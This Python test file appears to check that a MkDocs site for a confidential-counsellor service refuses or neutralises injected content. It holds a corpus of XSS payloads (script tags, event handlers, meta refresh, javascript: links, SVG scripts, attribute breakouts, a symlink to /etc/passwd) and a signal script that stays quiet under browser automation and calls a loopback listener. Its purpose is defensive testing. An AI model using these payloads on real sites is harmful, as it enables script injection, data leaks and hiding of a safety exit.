"""The injection corpus (issue 12): what an editor, a data file, an organisation setting or a logo can
contain must never run, redirect, leak or hide the quick exit.

Each payload goes where an attacker would put it (a page, its front matter, a file under docs/, the
organisation file, the quick-exit words, the logo, SITE_URL) in a scratch copy of the project. Then
each must either fail the real `mkdocs build --strict` with a message naming its file and line, or
build and be inert in Chromium served by the shipped nginx config. Inert is checked as an attacker's
code would be seen: navigator.webdriver hidden (payloads test it to stay quiet under automation),
every payload trying to signal by navigating away, calling a loopback listener (fetch, beacon,
images, frames, pings, forms), opening a tab, setting document.title or hiding the quick exit; the
check fails on any of those and requires the quick exit to be visible and clickable.

Few builds: every payload that is not in a one-value setting goes into the same build; a build that
fails removes the payloads it named, and the next build goes on with the rest (and with the next
variant of each one-value setting: the logo, quick_exit_url, site_url, SITE_URL, repository), until
one succeeds and the rest are checked in the browser.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import socket
import subprocess
import threading
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from support import ROOT, copy_project, launch_chromium, missing, mkdocs_executable, serve_nginx

pytestmark = [pytest.mark.nginx, pytest.mark.browser]

PREFIX = "/vertrouwenspersoon/"
SITE_URL = "https://intranet.example.org" + PREFIX
QUICK_EXIT = "https://www.buienradar.nl/"
MAX_BUILDS = 14

# --- The payloads ---------------------------------------------------------------------------------


@dataclass
class Payload:
    id: str
    klass: str
    target: str          # page | frontmatter | file | org | quick-exit | logo | env
    text: str            # with {sig} (JavaScript that signals), {l} (listener URL), {id}
    slot: str = ""       # the one-value setting it occupies (org key, quick-exit key, logo, SITE_URL)
    expect: str = "either"  # "reject": the issue asks the build to refuse it; "either": refused or inert
    extra: dict = field(default_factory=dict)  # file payloads: {"path": ..., "page": ...}; actions
    outcome: str = ""
    where: str = ""
    blocked_by_csp: list = field(default_factory=list)


def corpus() -> list[Payload]:
    P = Payload
    return [
        # Pages: raw HTML an editor (or a compromised account) writes into Markdown.
        P("script-inline", "script", "page", "<script>{sig}</script>", expect="reject"),
        P("script-upper", "script", "page", "<SCRIPT\n>{sig}</SCRIPT>", expect="reject"),
        P("script-md-in-html", "script", "page", '<div markdown="1">\n\n<script>{sig}</script>\n\n</div>',
          expect="reject"),
        P("script-src-docs", "script src", "file", '<script src="../../x.js"></script>', expect="reject",
          extra={"path": "x.js", "content": "{sig}"}),
        P("script-src-theme-folder", "script src", "file",
          '<script src="../../assets/javascripts/evil.js"></script>', expect="reject",
          extra={"path": "assets/javascripts/evil.js", "content": "{sig}"}),
        P("lazy-loader", "lazy loader", "page", '<script type="text/x-vp-lazy" data-src="../../x2.js"></script>',
          expect="reject"),
        P("lazy-loader-file", "lazy loader", "file",
          '<script type="text/x-vp-lazy" data-src="../../y.js"></script>', expect="reject",
          extra={"path": "y.js", "content": "{sig}"}),
        P("meta-refresh", "meta refresh", "page", '<meta http-equiv="refresh" content="0;url={l}/n/{id}">',
          expect="reject"),
        P("meta-refresh-noscript", "meta refresh", "page",
          '<noscript><meta http-equiv="refresh" content="0;url={l}/n/{id}"></noscript>', expect="reject"),
        P("meta-referrer", "meta referrer", "page",
          '<meta name="referrer" content="unsafe-url">\n\n[verder]({l}/r/{id}){{#ref-{id}}}', expect="reject",
          extra={"click": "#ref-{id}"}),
        P("form-input", "form", "page",
          '<form action="{l}/f/{id}"><input name="q" value="antwoord"><button id="go-{id}">Ga</button></form>',
          expect="reject", extra={"click": "#go-{id}"}),
        P("formaction", "formaction", "page",
          '<button form="search" formaction="{l}/fa/{id}" id="fa-{id}">Zoek</button>', expect="reject",
          extra={"click": "#fa-{id}"}),
        P("style-hides-exit", "style", "page", "<style>.qe,.qe-skip{{display:none!important}}</style>",
          expect="reject"),
        P("style-overlay-attribute", "style attribute", "page",
          '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Niets</div>', expect="reject"),
        P("svg-script", "svg script", "page", "<svg><script>{sig}</script></svg>", expect="reject"),
        P("svg-onload", "svg script", "page", '<svg onload="{sig}"></svg>', expect="reject"),
        P("svg-foreignobject", "svg script", "page",
          '<svg><foreignObject><iframe src="{l}/fo/{id}"></iframe></foreignObject></svg>', expect="reject"),
        P("img-onerror", "event handler", "page", '<img src="nope.png" alt="" onerror="{sig}">', expect="reject"),
        P("details-ontoggle", "event handler", "page", '<details open ontoggle="{sig}"><summary>x</summary></details>',
          expect="reject"),
        P("attr-list-onclick", "attr_list", "page", "Tekst met focus\n{{ onfocus=\"{sig}\" tabindex=\"0\" autofocus }}",
          expect="reject"),
        P("attr-list-style", "attr_list", "page",
          'Een alinea\n{{ style="position:fixed;inset:0;background:#fff;z-index:99999" }}', expect="reject"),
        P("attr-list-target", "attr_list", "page", "[nieuw tabblad]({l}/t/{id}){{ target=\"_blank\" #tab-{id} }}",
          expect="reject", extra={"click": "#tab-{id}"}),
        P("javascript-link", "javascript: link", "page", "[klik](javascript:{sigurl}){{#js-{id}}}",
          extra={"click": "#js-{id}"}),
        P("javascript-link-html", "javascript: link", "page", '<a href="javascript:{sigurl}" id="jsh-{id}">klik</a>',
          extra={"click": "#jsh-{id}"}),
        P("iframe", "iframe", "page", '<iframe src="{l}/i/{id}"></iframe>', expect="reject"),
        P("iframe-srcdoc", "srcdoc", "page", '<iframe srcdoc="<script>{sig}</script>"></iframe>', expect="reject"),
        P("object", "object", "page", '<object data="{l}/o/{id}"></object>', expect="reject"),
        P("embed", "embed", "page", '<embed src="{l}/e/{id}">', expect="reject"),
        P("base", "base", "page", '<base href="{l}/b/{id}/">\n\n[een link](../contact.md)', expect="reject"),
        P("link-stylesheet", "link", "page", '<link rel="stylesheet" href="{l}/l/{id}">', expect="reject"),
        P("link-prefetch", "link", "page", '<link rel="prefetch" href="{l}/lp/{id}">', expect="reject"),
        P("ping", "ping", "page", '<a href="../" ping="{l}/p/{id}" id="ping-{id}">terug</a>', expect="reject",
          extra={"click": "#ping-{id}"}),
        P("comment-breakout", "script", "page", "<!-- x --!><script>{sig}</script>", expect="reject"),
        # Text that only looks like code: it must come out as text (escaped), not be decoded into code.
        P("entity-script-text", "script", "page", "Zo ziet het eruit: &lt;script&gt;{sig}&lt;/script&gt;"),
        P("code-block-script", "script", "page", "```html\n<script>{sig}</script>\n```"),
        # Front matter: values Material prints in <head>.
        P("title-breakout", "title breakout", "frontmatter", "title: {json}",
          extra={"value": "</title><script>{sig}</script>"}),
        P("description-refresh", "meta refresh", "frontmatter", "description: {json}",
          extra={"value": '"><meta http-equiv="refresh" content="0;url={l}/n/{id}">'}),
        P("title-style", "style", "frontmatter", "title: {json}",
          extra={"value": "<style>.qe{{display:none}}</style>"}),
        P("description-quotes", "meta refresh", "frontmatter", "description: {json}",
          extra={"value": 'Uitleg" http-equiv="refresh" content="0;url={l}/n/{id}'}),
        # Files under docs/ and symlinks.
        P("html-file", "script", "file", "[pagina](../x.html)", expect="reject",
          extra={"path": "x.html", "content": "<!doctype html><title>x</title><script>{sig}</script>", "visit": "x.html"}),
        P("svg-file", "svg script", "file", "![beeld](../evil.svg)", expect="reject",
          extra={"path": "evil.svg", "content": '<svg xmlns="http://www.w3.org/2000/svg"><script>{sig}</script></svg>',
                 "visit": "evil.svg"}),
        P("symlink-passwd", "symlink", "file", "[lek](../assets/leak.txt)", expect="reject",
          extra={"path": "assets/leak.txt", "symlink": "/etc/passwd", "fetch": "assets/leak.txt"}),
        # The organisation file.
        P("org-name-script", "organisation name", "org", "</title><script>{sig}</script>", slot="name.nl"),
        P("org-name-style", "organisation name", "org", "<style>.qe{{display:none}}</style>", slot="name.en"),
        P("org-name-quotes", "organisation name", "org", 'Zorg & Co" onmouseover="{sig}" data-x="', slot="name.nl"),
        P("org-contact-name", "organisation name", "org", "<img src=x onerror=\"{sig}\">", slot="contact.name"),
        P("org-contact-note", "organisation name", "org", "</p><script>{sig}</script>", slot="contact.note"),
        P("org-contact-web", "javascript: link", "org", "javascript:{sigurl}", slot="contact.web"),
        P("org-contact-email", "organisation name", "org", 'vp@example.org"><script>{sig}</script>',
          slot="contact.email"),
        P("quick-exit-url-script", "quick_exit_url", "org", QUICK_EXIT + '"><script>{sig}</script>',
          slot="quick_exit_url", expect="reject"),
        P("quick-exit-url-target", "quick_exit_url", "org", QUICK_EXIT + '"target="_blank', slot="quick_exit_url",
          expect="reject"),
        P("quick-exit-url-javascript", "quick_exit_url", "org", "javascript:{sigurl}", slot="quick_exit_url",
          expect="reject"),
        P("repository-script", "repository", "org", 'https://git.example.org/o/r/edit/main/docs/"><script>{sig}</script>',
          slot="repository", expect="reject"),
        P("site-url-script", "site_url", "org", SITE_URL + '"><script>{sig}</script>', slot="site_url",
          expect="reject"),
        P("site-url-query", "site_url", "org", SITE_URL + "?via=x", slot="site_url", expect="reject"),
        P("site-url-env-script", "site_url", "env", SITE_URL + '"><script>{sig}</script>', slot="SITE_URL",
          expect="reject"),
        P("site-url-env-http", "site_url", "env", "http://intranet.example.org" + PREFIX, slot="SITE_URL",
          expect="reject"),
        # The quick-exit words (docs/_data/quick-exit.yml).
        P("qe-label-script", "quick-exit labels", "quick-exit", "Snel weg</a><script>{sig}</script>", slot="nl.label"),
        P("qe-label-entities", "quick-exit labels", "quick-exit", "Snel weg &lt;/a&gt;&lt;script&gt;{sig}&lt;/script&gt;",
          slot="nl.label"),
        P("qe-skip-style", "quick-exit labels", "quick-exit", '"><style>.qe{{display:none}}</style>',
          slot="nl.skip_link"),
        P("qe-attribute-handler", "quick-exit labels", "quick-exit", '" onmouseover="{sig}" x="', slot="nl.press_two"),
        P("qe-en-label-target", "quick-exit labels", "quick-exit", 'Leave" target="_blank', slot="en.label"),
        # The logo.
        P("logo-script", "SVG logo", "logo", '<svg xmlns="http://www.w3.org/2000/svg"><script>{sig}</script>'
          '<rect width="10" height="10"/></svg>', slot="logo", expect="reject"),
        P("logo-script-href", "SVG logo", "logo", '<svg xmlns="http://www.w3.org/2000/svg" '
          'xmlns:xlink="http://www.w3.org/1999/xlink"><script href="{l}/ls/{id}"/><script xlink:href="{l}/lx/{id}"/>'
          '<rect width="10" height="10"/></svg>', slot="logo", expect="reject"),
        P("logo-onload", "SVG logo", "logo", '<svg xmlns="http://www.w3.org/2000/svg" onload="{sig}">'
          '<rect width="10" height="10"/></svg>', slot="logo", expect="reject"),
        P("logo-foreignobject", "SVG logo", "logo", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>'
          '<iframe xmlns="http://www.w3.org/1999/xhtml" src="{l}/lf/{id}"/></foreignObject></svg>', slot="logo",
          expect="reject"),
        P("logo-external-image", "SVG logo", "logo", '<svg xmlns="http://www.w3.org/2000/svg"><image href="{l}/li/{id}" '
          'width="10" height="10"/></svg>', slot="logo", expect="reject"),
    ]


def signal_js(listener: str, pid: str) -> str:
    """What a payload's script does once it runs: every way to tell the attacker, unless automated."""
    return ("if(!navigator.webdriver){document.title='PWNED " + pid + "';"
            "fetch('" + listener + "/s/" + pid + "',{mode:'no-cors'});"
            "navigator.sendBeacon('" + listener + "/sb/" + pid + "','x');"
            "window.open('" + listener + "/w/" + pid + "');"
            "location.href='" + listener + "/n/" + pid + "'}")


def render(text: str, payload: Payload, listener: str) -> str:
    # In a URL (javascript:…) the signal must do without spaces and parentheses (Markdown link syntax).
    sigurl = f"location='{listener}/jn/{payload.id}'"
    return text.format(sig=signal_js(listener, payload.id), l=listener, id=payload.id, sigurl=sigurl, json="{json}")


# --- The scratch project --------------------------------------------------------------------------

ORG_DEFAULTS = {
    "name.nl": "Corpus Organisatie", "name.en": "Corpus Organisation",
    "site_url": SITE_URL, "quick_exit_url": QUICK_EXIT, "repository": "",
    "contact.name": "Team Vertrouwenspersonen", "contact.note": "Bel gerust.", "contact.web": "https://vp.example.org/",
    "contact.email": "vp@example.org",
}
SAFE_LOGO = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>'


def q(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar


def organisation_yaml(values: dict[str, str]) -> tuple[str, dict[str, int]]:
    """The organisation file, and the line of each setting in it."""
    lines, where = [], {}

    def add(key: str | None, text: str):
        lines.append(text)
        if key:
            where[key] = len(lines)

    add(None, "name:")
    add("name.nl", f"  nl: {q(values['name.nl'])}")
    add("name.en", f"  en: {q(values['name.en'])}")
    add("site_url", f"site_url: {q(values['site_url'])}")
    add("logo", "logo: logo.svg")
    add(None, 'brand_colour: "#1f4e79"')
    add("quick_exit_url", f"quick_exit_url: {q(values['quick_exit_url'])}")
    add(None, "allow_indexing: false")
    if values["repository"]:
        add("repository", f"repository: {q(values['repository'])}")
    add(None, "contacts:")
    add(None, "  - id: extern")
    add(None, "    role: external-vp")
    add("contact.name", f"    name: {q(values['contact.name'])}")
    add(None, "    phone: +31 20 123 4567")
    add("contact.email", f"    email: {q(values['contact.email'])}")
    add("contact.web", f"    web: {q(values['contact.web'])}")
    add(None, "    note:")
    add("contact.note", f"      nl: {q(values['contact.note'])}")
    add(None, f"      en: {q(values['contact.note'])}")
    return "\n".join(lines) + "\n", where


def quick_exit_yaml(values: dict[str, dict[str, str]]) -> tuple[str, dict[str, int]]:
    lines, where = [], {}
    for lang, texts in values.items():
        lines.append(f"{lang}:")
        for key, text in texts.items():
            lines.append(f"  {key}: {q(text)}")
            where[f"{lang}.{key}"] = len(lines)
    return "\n".join(lines) + "\n", where


@dataclass
class Placement:
    payload: Payload
    locations: list  # (path tail, line or None): a message naming one of them is the payload's rejection


def page_text(title: str, body: str, front: str = "") -> str:
    settings = ["description: Een pagina van het testcorpus."]
    if front:  # the payload's setting replaces the default one of the same name
        settings = [line for line in settings if line.split(":")[0] != front.split(":")[0]] + [front]
    return "\n".join(["---", *settings, "---", "", f"# {title}", "", body, ""])


def write_project(dest: Path, payloads: list[Payload], listener: str) -> tuple[list[Placement], dict]:
    """A scratch project with these payloads placed; returns where each sits and the build's env."""
    copy_project(dest)
    docs = dest / "docs"
    (dest / "mkdocs.yml").write_text((dest / "mkdocs.yml").read_text(encoding="utf-8") +
                                     "\nnot_in_nav: |\n  corpus/\n", encoding="utf-8")
    # The project's own quick-exit words (whatever keys they have today), with the payloads put in.
    qe_file = docs / "_data" / "quick-exit.yml"
    qe = {lang: {key: str(text) for key, text in texts.items()}
          for lang, texts in yaml.safe_load(qe_file.read_text(encoding="utf-8")).items()}
    placements, org, logo, env = [], dict(ORG_DEFAULTS), SAFE_LOGO, {}
    org_slots, qe_slots = {}, {}
    for number, payload in enumerate(payloads, 1):
        text = render(payload.text, payload, listener)
        if payload.target in ("page", "frontmatter", "file"):
            stem = f"corpus/p{number:02d}"
            body, front = (text, "") if payload.target != "frontmatter" else ("Tekst.", text.replace(
                "{json}", q(render(payload.extra["value"], payload, listener))))
            source = page_text(f"Corpus {number}", body, front)
            (docs / "corpus").mkdir(exist_ok=True)
            (docs / f"{stem}.md").write_text(source, encoding="utf-8")
            (docs / f"{stem}.en.md").write_text(page_text(f"Corpus {number}", "Text."), encoding="utf-8")
            payload.extra["page"] = stem + "/"
            if payload.target == "frontmatter":
                lines = [source.split("\n").index(front) + 1]
            else:
                first = source.split("\n").index(body.split("\n")[0]) + 1
                lines = list(range(first, first + body.count("\n") + 1))
            locations = [(f"{stem}.md", line) for line in lines]
            if payload.target == "file":
                path = docs / payload.extra["path"]
                path.parent.mkdir(parents=True, exist_ok=True)
                if "symlink" in payload.extra:
                    path.symlink_to(payload.extra["symlink"])
                else:
                    path.write_text(render(payload.extra["content"], payload, listener), encoding="utf-8")
                locations.append(("docs/" + payload.extra["path"], None))
            placements.append(Placement(payload, locations))
        elif payload.target == "org":
            org[payload.slot] = text
            org_slots[payload.slot] = payload
        elif payload.target == "quick-exit":
            lang, key = payload.slot.split(".")
            qe[lang][key] = text
            qe_slots[payload.slot] = payload
        elif payload.target == "logo":
            logo = text
            org_slots["logo"] = payload
        elif payload.target == "env":
            env["SITE_URL"] = text
            placements.append(Placement(payload, [("SITE_URL", None)]))
    org_text, org_lines = organisation_yaml(org)
    (dest / "corpus-organisation").mkdir()
    (dest / "corpus-organisation" / "organisation.yml").write_text(org_text, encoding="utf-8")
    (dest / "corpus-organisation" / "logo.svg").write_text(logo, encoding="utf-8")
    for slot, payload in org_slots.items():
        locations = [("organisation.yml", org_lines[slot])]
        if slot == "logo":
            locations.append(("logo.svg", None))
        placements.append(Placement(payload, locations))
    qe_text, qe_lines = quick_exit_yaml(qe)
    qe_file.write_text(qe_text, encoding="utf-8")
    placements += [Placement(p, [("quick-exit.yml", qe_lines[slot])]) for slot, p in qe_slots.items()]
    env["VP_ORGANISATION"] = str(dest / "corpus-organisation")  # the organisation folder (vpgids.orgfolder)
    return placements, env


def build(dest: Path, env: dict) -> subprocess.CompletedProcess:
    run_env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true", "SITE_URL": "", **env}
    return subprocess.run([mkdocs_executable(), "build", "--strict", "-d", str(dest / "site")], cwd=dest,
                          env=run_env, capture_output=True, text=True)


def named(output: str, placement: Placement) -> str:
    """The location a build message gives for this payload ('file:line'), or ''."""
    for tail, line in placement.locations:
        if line is None:
            if tail == "SITE_URL":
                if re.search(r"SITE_URL", output) and re.search(r"\w[\w./-]*:\d+: ", output):
                    found = re.search(r"([\w./-]+:\d+): [^\n]*SITE_URL", output)
                    if found:
                        return found.group(1) + " (SITE_URL)"
                continue
            found = re.search(rf"(?:^|[\s/'\"]){re.escape(tail)}(?::(\d+))?", output, re.M)
            if found:
                return tail + (f":{found.group(1)}" if found.group(1) else "")
        elif re.search(rf"(?:^|[\s/]){re.escape(tail)}:{line}: ", output, re.M):
            return f"{tail}:{line}"
    return ""


# --- The browser check ----------------------------------------------------------------------------

HIDE_AUTOMATION = """
Object.defineProperty(Navigator.prototype, 'webdriver', {get: () => false, configurable: true});
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective));
"""
EXIT_STATE = """() => {
    const button = document.querySelector('.qe__button'), skip = document.querySelector('a.qe-skip');
    if (!button) return {missing: true};
    const r = button.getBoundingClientRect(), style = getComputedStyle(button);
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    return {visible: r.width > 0 && r.height > 0 && r.top >= 0 && style.visibility !== 'hidden'
                     && style.display !== 'none' && Number(style.opacity) > 0.5
                     && getComputedStyle(document.documentElement).display !== 'none',
            clickable: !!hit && (hit === button || button.contains(hit)),
            hrefs: [button.href, skip && skip.href], targets: [button.target, skip && skip.target],
            title: document.title, webdriver: navigator.webdriver, base: document.baseURI,
            csp: window.__csp};
}"""


class Listener:
    """A loopback HTTP server that records every request: any hit is a payload that got out."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                hits.append((self.path, self.headers.get("Referer", "")))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<title>listener</title>")

            do_GET = do_POST = do_HEAD = _record

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def visit(context, url: str, base: str, listener: Listener, javascript: bool, clicks=()) -> list[str]:
    """Open url as a reader; return every sign that a payload ran, leaked, navigated or hid the exit."""
    signs, popups, outside = [], [], []
    before = len(listener.hits)
    def on_popup(new_page):
        popups.append(new_page)

    page = context.new_page()
    context.on("page", on_popup)  # after new_page(): only pages the payload opens
    page.on("request", lambda r: r.url.startswith((base.split(PREFIX)[0], "data:", "about:")) or outside.append(r.url))
    response = page.goto(url, wait_until="load")
    if response is None or response.status != 200:
        signs.append(f"{url} answered {response.status if response else 'nothing'}")
    if javascript:
        try:  # the reader's first interaction starts Material (components/lazy-material)
            page.mouse.move(3, 3)
            page.mouse.move(9, 12)
            page.wait_for_function("() => document.documentElement.classList.contains('js')", timeout=5000)
        except Exception as exc:  # noqa: BLE001 - a payload that broke or left the page
            signs.append(f"Material did not start ({exc.__class__.__name__}): page is at {page.url}")
    page.wait_for_timeout(350)  # a meta refresh, a timer or a fetch would have happened by now
    if page.url.split("#")[0] != url:
        signs.append(f"navigated to {page.url}")
    else:
        state = page.evaluate(EXIT_STATE)
        if state.get("missing"):
            signs.append("no quick exit button")
        else:
            if not (state["visible"] and state["clickable"]):
                signs.append(f"quick exit hidden or covered: {state}")
            if any(h != QUICK_EXIT for h in state["hrefs"]) or any(state["targets"]):
                signs.append(f"quick exit changed: {state['hrefs']} {state['targets']}")
            if state["title"].startswith("PWNED"):  # what the signal sets; the payload's text may show it
                signs.append(f"title set: {state['title']}")
            if javascript and state["webdriver"]:
                signs.append("navigator.webdriver is not hidden: the check would miss quiet payloads")
            if state["base"].split("#")[0] != url:
                signs.append(f"base URL changed to {state['base']}")
        for selector in clicks:
            if page.url.split("#")[0] != url:
                break
            link = page.locator(selector)
            if link.count():
                try:
                    link.first.click(timeout=2000, no_wait_after=True)
                    page.wait_for_timeout(300)
                except Exception:  # noqa: BLE001 - not clickable is fine: it did nothing
                    pass
                if page.url.startswith(listener.url) and "/r/" in page.url:
                    pass  # an outside link the reader chose: allowed, but see the Referer check below
                elif page.url.split("#")[0] != url and not page.url.startswith(base):
                    signs.append(f"clicking {selector} went to {page.url}")
    for popup in popups:
        signs.append(f"opened a new tab: {popup.url}")
    for path, referer in listener.hits[before:]:
        if "/r/" in path and not referer:
            continue  # the chosen outside link, without telling where the reader came from
        signs.append(f"the listener got {path}" + (f" with Referer {referer}" if referer else ""))
    signs += [f"request to another host: {u}" for u in outside if not u.startswith(listener.url + "/r/")]
    try:
        if page.url.split("#")[0] == url and javascript:
            csp = page.evaluate("() => window.__csp || []")
        else:
            csp = []
    except Exception:  # noqa: BLE001
        csp = []
    page.close()
    context.remove_listener("page", on_popup)
    return signs if not csp else signs + [f"(csp blocked: {', '.join(sorted(set(csp)))})"]


# --- The test -------------------------------------------------------------------------------------

CONTROLS = {  # built page -> (what is done to it after the build, the sign the check must report)
    "index.html": ('<head>', '<head><meta http-equiv="refresh" content="0;url={l}/n/control">'),
    "contact/index.html": ('<aside class="qe"', '<aside hidden class="qe"'),
    "en/index.html": ('<title>', '<title>PWNED control '),
    "en/contact/index.html": ('href="' + QUICK_EXIT + '" rel="noreferrer" class="qe__button"',
                              'href="' + QUICK_EXIT + '" target="_blank" rel="noreferrer" class="qe__button"'),
}


def last_built(tmp_path: Path) -> Path:
    return max(tmp_path.glob("build*"), key=lambda d: int(d.name[5:]))


def check_controls(dest: Path, base: str, contexts: dict, listener: Listener) -> dict[str, list[str]]:
    """Proof that the browser check can fail: pages tampered with after the build must be caught
    (by the sign expected; CSP notes do not count). Run on the last successful build."""
    found = {}
    for rel, (before, after) in CONTROLS.items():
        path = dest / "site" / rel
        text = path.read_text(encoding="utf-8")
        assert before in text, f"control for {rel}: '{before}' not in the built page"
        path.write_text(text.replace(before, after.format(l=listener.url), 1), encoding="utf-8")
        url = base + rel.removesuffix("index.html")
        found[rel] = [s for s in visit(contexts[True], url, base, listener, True) if not s.startswith("(csp")]
    return found


@pytest.fixture(scope="module")
def stealth_browser(playwright_driver):
    browser = launch_chromium(playwright_driver, ["--disable-blink-features=AutomationControlled"])
    yield browser
    browser.close()


BUILDS: list[int] = []  # how many builds the corpus took (reported in the tally)


def run_rounds(tmp_path: Path, payloads: list[Payload], listener: Listener):
    """Build until every payload is refused (named) or in a successful build. Returns the last site."""
    pending = [p for p in payloads]
    built: list[Payload] = []
    site = None
    for number in range(1, MAX_BUILDS + 1):
        # One payload per one-value setting per build; everything else at once.
        slots, chosen = set(), []
        for payload in pending:
            key = payload.slot or None
            if key and key in slots:
                continue
            if key:
                slots.add(key)
            chosen.append(payload)
        if not chosen:
            break
        dest = tmp_path / f"build{number}"
        BUILDS.append(number)
        placements, env = write_project(dest, chosen, listener.url)
        proc = build(dest, env)
        output = proc.stdout + proc.stderr
        assert "Traceback" not in output, f"build {number} crashed instead of naming the problem:\n{output[-3000:]}"
        if proc.returncode == 0:
            for payload in chosen:
                payload.outcome = "built"
            built_now = [p for p in chosen]
            pending = [p for p in pending if p not in built_now]
            built += built_now
            site = (dest, built_now)
            yield site
            continue
        refused = []
        for placement in placements:
            where = named(output, placement)
            if where:
                placement.payload.outcome, placement.payload.where = "rejected", where
                refused.append(placement.payload)
        assert refused, f"build {number} failed without naming any payload:\n{output[-3000:]}"
        pending = [p for p in pending if p not in refused]
        shutil.rmtree(dest, ignore_errors=True)
    assert not pending, f"still undecided after {MAX_BUILDS} builds: {[p.id for p in pending]}"


def test_every_payload_is_refused_at_its_line_or_inert_in_the_browser(tmp_path, stealth_browser):
    if not (shutil.which("nginx") or Path("/usr/sbin/nginx").exists()):
        missing("nginx", "apt-get install nginx-light")
    payloads = corpus()
    BUILDS.clear()
    only = os.environ.get("CORPUS_ONLY")  # e.g. CORPUS_ONLY=base,ping: while working on one payload
    if only:
        payloads = [p for p in payloads if p.id in only.split(",")]
    listener = Listener()
    problems, tally, controls = [], [], None
    try:
        for dest, built in run_rounds(tmp_path, payloads, listener):
            with socket.socket() as probe:
                probe.bind(("127.0.0.1", 0))
                port = probe.getsockname()[1]
            with serve_nginx(dest / "site", PREFIX, dest / "nginx", port=port) as base:
                contexts = {js: stealth_browser.new_context(java_script_enabled=js, viewport={"width": 1280, "height": 800})
                            for js in (True, False)}
                for context in contexts.values():
                    context.add_init_script(HIDE_AUTOMATION)
                try:
                    for payload in built:
                        urls = []
                        if "page" in payload.extra:
                            urls.append(base + payload.extra["page"])
                        if "visit" in payload.extra:
                            urls.append(base + payload.extra["visit"])
                        if payload.target in ("org", "quick-exit", "logo", "env"):
                            urls += [base, base + "en/contact/"]
                        clicks = [render(c, payload, listener.url) for c in [payload.extra.get("click")] if c]
                        for url in urls:
                            for js, context in contexts.items():
                                signs = visit(context, url, base, listener, js, clicks if js else ())
                                if url.endswith(".svg"):  # an image document: no quick exit to look for
                                    signs = [s for s in signs if not s.startswith(("no quick exit", "(csp"))]
                                payload.blocked_by_csp += [s for s in signs if s.startswith("(csp")]
                                real = [s for s in signs if not s.startswith("(csp")]
                                problems += [f"{payload.id} ({'JS' if js else 'no JS'}) {url}: {s}" for s in real]
                        if "fetch" in payload.extra:
                            import urllib.request
                            try:
                                body = urllib.request.urlopen(base + payload.extra["fetch"], timeout=5).read()
                            except Exception:  # noqa: BLE001 - a 404 is what we want
                                body = b""
                            if b"root:" in body:
                                problems.append(f"{payload.id}: {payload.extra['fetch']} publishes /etc/passwd")
                    if dest == last_built(tmp_path):
                        controls = check_controls(dest, base, contexts, listener)
                finally:
                    for context in contexts.values():
                        context.close()
    finally:
        listener.close()
    for payload in payloads:
        if payload.outcome == "built":
            payload.outcome = "inert" if not any(p.startswith(payload.id + " ") for p in problems) else "RAN"
        how = payload.where if payload.outcome == "rejected" else (
            "(csp blocked it)" if payload.blocked_by_csp else "")
        tally.append(f"{payload.id:28} {payload.klass:18} {payload.target:11} {payload.outcome:8} {how}")
        if payload.expect == "reject" and payload.outcome != "rejected":
            problems.append(f"{payload.id}: the issue asks the build to refuse it, but it {payload.outcome}")
        if payload.outcome == "rejected" and not re.search(r":\d+", payload.where) and payload.target not in (
                "file", "env", "logo"):
            problems.append(f"{payload.id}: refused, but the message names no line ({payload.where})")
    rejected = sum(p.outcome == "rejected" for p in payloads)
    inert = sum(p.outcome == "inert" for p in payloads)
    summary = (f"{len(payloads)} payloads: {rejected} refused at build with their file:line, {inert} built inert, "
               f"{len(payloads) - rejected - inert} not stopped; {len(BUILDS)} builds")
    print("\n" + "\n".join(tally) + "\n" + summary)
    assert only or len(payloads) >= 30 and len({p.klass for p in payloads}) >= 20
    assert controls is not None or not inert, "no control run: the browser check was never shown to fail"
    assert controls is None or not [c for c, signs in controls.items() if not signs], \
        f"the browser check misses what it must see on a tampered page: {controls}"
    assert not problems, summary + "\n" + "\n".join(problems) + "\n\n" + "\n".join(tally)
